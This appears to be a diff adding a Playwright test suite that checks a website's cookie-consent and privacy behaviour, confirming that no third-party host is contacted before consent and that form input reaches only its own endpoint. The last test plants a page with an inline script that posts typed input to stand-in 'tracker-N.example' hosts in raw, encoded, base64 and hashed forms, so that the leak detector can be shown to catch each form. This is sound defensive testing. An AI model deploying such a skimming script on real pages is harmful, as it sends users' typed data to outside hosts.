@@ -1,0 +1,150 @@
+/** Nothing leaks: no other host before a choice, only the allowed after it, and no secret but to its own form. */
+import { type Browser, type BrowserContext, expect, test } from '@playwright/test';
+import { OPTIONAL, preferences } from '#domain/consent.ts';
+import { EMBEDS } from '#domain/third-parties.ts';
+import { pages } from '../site/dist.ts';
+import { leaks, overhear, type Said } from './leaks.ts';
+
+const TABS = 4;
+const PLANTED = '/planted';
+const SECRETS = ['river.sample+leak@example.com', 'Wrenfield-Leakproof', 'we whisper about plums'];
+const [EMAIL = '', NAME = '', MESSAGE = ''] = SECRETS;
+
+/** The eight combinations, and nobody has chosen yet. */
+const CHOICES: readonly (readonly string[] | undefined)[] = [
+  undefined,
+  ...Array.from({ length: 8 }, (_, bits) => OPTIONAL.filter((_word, at) => (bits >> at) % 2 === 1)),
+];
+const embedding = pages.filter(({ $ }) => $('[data-embed]').length).map(({ route }) => route);
+const routes = pages.map(({ route }) => route);
+
+/** Everywhere before a choice and with everything allowed; between those each page once, and those with an embed always. */
+const routesFor = (at: number): string[] =>
+  at === 0 || at === CHOICES.length - 1
+    ? routes
+    : [...new Set([...embedding, ...routes.filter((_, index) => index % 7 === at - 1)])];
+
+async function visitor(
+  browser: Browser,
+  own: string,
+  choice: readonly string[] | undefined,
+): Promise<{ context: BrowserContext; all: Said[] }> {
+  const context = await browser.newContext({ baseURL: `http://${own}` });
+  await context.route(/\.(?:webp|avif|png|svg|woff2|mp3)$/, (route) => route.abort());
+  const all = await overhear(context, own);
+  if (choice)
+    await context.addInitScript(
+      (kept) => {
+        localStorage.setItem('cookie-consent', 'true');
+        localStorage.setItem('cookie-consent-timestamp', String(Date.now()));
+        localStorage.setItem('cookie-preferences', kept);
+      },
+      JSON.stringify(preferences(choice)),
+    );
+  return { context, all };
+}
+
+/** Opens every route in a few tabs, brings what would load by itself into sight, and gives it time to. */
+async function walk(context: BrowserContext, over: readonly string[]): Promise<void> {
+  const left = over.values();
+  const tab = async (): Promise<void> => {
+    const page = await context.newPage();
+    for (const route of left) {
+      await page.goto(route);
+      await page.evaluate(async () => {
+        for (const place of document.querySelectorAll('[data-embed]')) {
+          place.scrollIntoView({ behavior: 'instant' });
+          await new Promise(requestAnimationFrame);
+        }
+        await new Promise((done) => setTimeout(done, 130));
+      });
+    }
+  };
+  await Promise.all(Array.from({ length: TABS }, tab));
+}
+
+const foreign = (all: readonly Said[], own: string): string[] => [
+  ...new Set(all.filter(({ host }) => host !== own).map(({ host }) => host)),
+];
+
+test.describe('leaks', { tag: '@desktop' }, () => {
+  for (const [at, choice] of CHOICES.entries()) {
+    test(`every route: ${choice ? `allowed ${choice.join(', ') || 'only the necessary'}` : 'no choice yet'}`, async ({
+      browser,
+      baseURL,
+    }) => {
+      test.setTimeout(120_000);
+      const own = new URL(baseURL ?? '').host;
+      const { context, all } = await visitor(browser, own, choice);
+      await walk(context, routesFor(at));
+      expect(all.length).toBeGreaterThan(20);
+      const mayHear = choice?.includes('functional') ? EMBEDS.map(({ host }) => host) : [];
+      expect(foreign(all, own).filter((host) => !mayHear.includes(host))).toEqual([]);
+      expect(leaks(all, SECRETS)).toEqual([]);
+      await context.close();
+    });
+  }
+
+  const forms = pages.filter(
+    ({ $, route }) => $('main form[method="post"]').length && route !== '/404',
+  );
+  const kinds = new Map(
+    forms.map(({ $, route }) => [$('main form[method="post"]').attr('action') ?? '', route]),
+  );
+
+  for (const [action, route] of kinds) {
+    test(`what is typed on ${route} goes to ${action} and nowhere else`, async ({
+      browser,
+      baseURL,
+    }) => {
+      const own = new URL(baseURL ?? '').host;
+      const { context, all } = await visitor(browser, own, OPTIONAL);
+      const page = await context.newPage();
+      await page.goto(route);
+      const form = page.locator('main form[method="post"]').first();
+      for (const field of await form
+        .locator('input:visible, textarea:visible, select:visible')
+        .all()) {
+        const type = await field.evaluate((element) => (element as HTMLInputElement).type);
+        if (type === 'checkbox' || type === 'radio') await field.check({ force: true });
+        else if (type === 'select-one') await field.selectOption({ index: 1 });
+        else if (type === 'email') await field.fill(EMAIL);
+        else if (type === 'textarea') await field.fill(MESSAGE);
+        else if (type === 'tel') await field.fill('(214) 555-0199');
+        else await field.fill(NAME);
+      }
+      await form.locator('button[type="submit"]').click();
+      await page.goto('/team');
+      await page.waitForLoadState('networkidle');
+      expect(leaks(all, SECRETS, [action])).toEqual([]);
+      await context.close();
+    });
+  }
+
+  test('a planted leak is found, in every disguise', async ({ browser, baseURL }) => {
+    const own = new URL(baseURL ?? '').host;
+    const { context, all } = await visitor(browser, own, undefined);
+    const send = [
+      '(value) => value',
+      'encodeURIComponent',
+      'btoa',
+      "async (value) => [...new Uint8Array(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(value)))].map((byte) => byte.toString(16).padStart(2, '0')).join('')",
+    ];
+    await context.route(`**${PLANTED}`, (route) =>
+      route.fulfill({
+        contentType: 'text/html',
+        body: `<input><script>document.querySelector('input').oninput = async ({ target }) => {
+          for (const [at, disguise] of [${send}].entries())
+            fetch('https://tracker-' + at + '.example/', { method: 'POST', mode: 'no-cors', body: await disguise(target.value) });
+        }</script>`,
+      }),
+    );
+    const page = await context.newPage();
+    await page.goto(PLANTED);
+    await page.locator('input').fill(EMAIL);
+    const found = send.map((_, at) => `POST tracker-${at}.example/`);
+    await expect.poll(() => leaks(all, SECRETS).toSorted()).toEqual(found);
+    expect(foreign(all, own).toSorted()).toEqual(send.map((_, at) => `tracker-${at}.example`));
+    await context.close();
+  });
+});
